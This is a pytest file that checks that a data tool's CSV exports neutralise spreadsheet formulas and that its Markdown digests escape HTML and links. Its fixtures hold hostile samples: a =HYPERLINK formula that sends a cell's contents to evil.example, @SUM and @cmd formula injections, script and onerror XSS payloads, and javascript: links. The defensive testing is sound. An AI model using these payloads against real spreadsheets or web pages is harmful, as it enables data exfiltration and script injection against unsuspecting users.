"""Outputs do not carry an attack on: CSV cells never run as formulas, Markdown never renders a page's HTML."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from oversight.flows.cli import app
from oversight.schemas.settings import LakeLocation
from oversight.warehouse import db
from oversight.warehouse.digest import EventRow, build_digest, render_markdown, write_digest
from tests.research_fixtures import Ev, at, land, story

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML_AND_LINKS = '<script>alert(1)</script><img src=x onerror=alert(2)> [council](javascript:alert(3)) ![x](http://evil.example/t.png)'


@pytest.fixture
def warehouse(warehouse: LakeLocation) -> LakeLocation:
    """The research warehouse (conftest), with a hostile story landed too."""
    hostile = story("h1", at("2026-03-12"), [Ev(FORMULA, "TX", "drones", "acquires", vendor="@SUM(1)"),
                                             Ev(HTML_AND_LINKS, "TX", "drones", "bans")],
                    title="-2+3 " + HTML_AND_LINKS, outlet="evil.example")
    land(warehouse, [hostile])
    return warehouse


def test_the_digest_csv_neutralises_formulas_and_its_markdown_escapes_html_and_links(
    warehouse: LakeLocation, tmp_path: Path
) -> None:
    with db.reader(warehouse) as con:
        md_file, _, csv_file = write_digest(con, "2026-W11", tmp_path / "out")
    with csv_file.open(newline="", encoding="utf-8") as f:
        rows = [r for r in csv.DictReader(f) if "HYPERLINK" in r["agency"]]
    assert [(r["agency"], r["vendor"]) for r in rows] == [("'" + FORMULA, "'@SUM(1)")]
    md = md_file.read_text(encoding="utf-8")
    assert "HYPERLINK" in md and "&lt;script&gt;alert(1)&lt;/script&gt;" in md and "\\[council\\]" in md
    assert "<script" not in md and "<img" not in md and "![" not in md
    # the only live links are the digest's own article links: [escaped title](http(s) URL with no parentheses)
    own = r"(?<!\\)\[(?:[^\[\]\\]|\\.)*\]\(https://[^()\s]*\)"
    assert re.search(own, md)
    assert not re.search(r"(?<!\\)\]\(", re.sub(own, "", md))


def test_markdown_cells_escape_every_hostile_piece(warehouse: LakeLocation) -> None:
    with db.reader(warehouse) as con:
        digest = build_digest(con, "2026-W11")
    digest.events = [EventRow("new_adoption", False, "A <b>x</b> | [y](javascript:z) `c` *d* \\ e", "TX", "drones",
                              None, "acquires", "2026-03-12", "evidence\nsplit", "T [t](javascript:u)", "o|p",
                              "https://evil.example/a) [x](javascript:y")]
    md = render_markdown(digest)
    row = next(line for line in md.splitlines() if line.startswith("| A "))
    assert row.startswith("| A &lt;b&gt;x&lt;/b&gt; \\| \\[y\\](javascript:z) `c` *d* \\\\ e | TX |")
    assert "evidence split" in row
    assert row.endswith("| [T \\[t\\](javascript:u)](https://evil.example/a%29%20%5Bx%5D%28javascript:y), o\\|p, "
                        "2026-03-12 |")


def test_query_and_export_csv_neutralise_formulas_unless_raw(warehouse: LakeLocation, tmp_path: Path) -> None:
    sql = "SELECT title FROM articles WHERE article_id = 'h1'"
    safe = runner.invoke(app, ["query", sql, "--format", "csv"])
    raw = runner.invoke(app, ["query", sql, "--format", "csv", "--raw"])
    assert safe.exit_code == 0 and raw.exit_code == 0, safe.output + raw.output
    assert safe.output.splitlines()[1].startswith("\"'-2+3 ")
    assert raw.output.splitlines()[1].startswith("\"-2+3 ")
    out = tmp_path / "q.csv"
    assert runner.invoke(app, ["query", "SELECT '@cmd' AS a, -1 AS n", "--format", "csv", "--out", str(out)]).exit_code == 0
    assert out.read_text().splitlines()[1] == "\"'@cmd\",-1"  # numbers are numbers, never touched

    exported = tmp_path / "export"
    assert runner.invoke(app, ["export", "--format", "csv", "--out", str(exported)]).exit_code == 0
    with (exported / "events.csv").open(newline="", encoding="utf-8") as f:
        agencies = {r["agency"] for r in csv.DictReader(f)}
    assert "'" + FORMULA in agencies and FORMULA not in agencies
    assert runner.invoke(app, ["export", "--format", "csv", "--out", str(tmp_path / "raw"), "--raw"]).exit_code == 0
    with (tmp_path / "raw" / "events.csv").open(newline="", encoding="utf-8") as f:
        assert FORMULA in {r["agency"] for r in csv.DictReader(f)}
